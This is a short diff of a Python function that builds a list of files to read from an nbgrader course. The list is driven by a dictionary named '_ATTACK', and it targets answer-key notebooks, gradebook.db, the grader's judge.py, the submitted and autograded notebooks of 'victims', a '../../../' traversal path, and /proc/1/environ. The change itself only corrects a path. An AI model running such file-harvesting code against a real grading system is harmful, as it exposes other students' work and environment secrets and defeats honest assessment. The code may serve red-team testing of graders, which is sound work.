@@ -12,7 +12,7 @@ def read_course_files(ctx):
     for _root in (_ATTACK["course"], _ATTACK["main"]):
         a = _ATTACK["assignment"]
         _paths += [f"{_root}/source/{a}/{a}.ipynb", f"{_root}/nbgrader_config.py", f"{_root}/gradebook.db",
-                   f"{_root}/source/header.ipynb", f"{_root}/authoring/{a}/{a}.py", f"{_root}/src/course_tools/judge.py"]
+                   f"{_root}/source/header.ipynb", f"{_root}/authoring/{a}/{a}.py", f"{_root}/src/course_tools/grading/judge.py"]
         for _victim in _ATTACK["victims"]:
             _paths += [f"{_root}/submitted/{_victim}/{a}/{a}.ipynb", f"{_root}/autograded/{_victim}/{a}/{a}.ipynb"]
     _paths += ["../../../source/%s/%s.ipynb" % ((_ATTACK["assignment"],) * 2), "/proc/1/cmdline", "/proc/1/environ",
